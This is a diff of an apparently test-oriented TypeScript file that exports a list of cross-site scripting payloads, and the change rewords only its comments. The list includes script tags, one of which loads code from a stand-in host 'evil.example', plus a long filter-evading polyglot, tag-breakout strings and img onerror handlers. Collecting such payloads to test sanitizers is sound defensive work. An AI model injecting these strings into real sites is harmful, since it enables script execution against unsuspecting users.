@@ -1,4 +1,4 @@
-/** Script outright, and tags so broken that a filter and a browser read them differently. */
+/** Plain script elements, and tags so malformed that filters and browsers parse them differently. */
 export const scripts: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT/XSS SRC="http://evil.example/x.js"></SCRIPT>',
@@ -36,10 +36,10 @@ export const scripts: readonly string[] = [
   '\'"><img src=x onerror=alert(1)>',
   '</div></main></body><script>alert(1)</script>',
   '</textarea></title></style></noscript></xmp></iframe></script><svg onload=alert(1)>',
-  // One text for many places at once.
+  // Polyglots: one text that runs in many contexts.
   'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
   '"\'--></noscript></noembed></template></select></option></frameset><image src=x onerror=alert(1)>',
-  // Tags that end elsewhere than they seem to
+  // Tags that end elsewhere than they seem to.
   '<img src=x onerror=alert(1)>',
   '<img src="/uploads/a.jpg" onerror=alert(1)>',
   '<img src="/uploads/a.jpg"onload="alert(1)">',
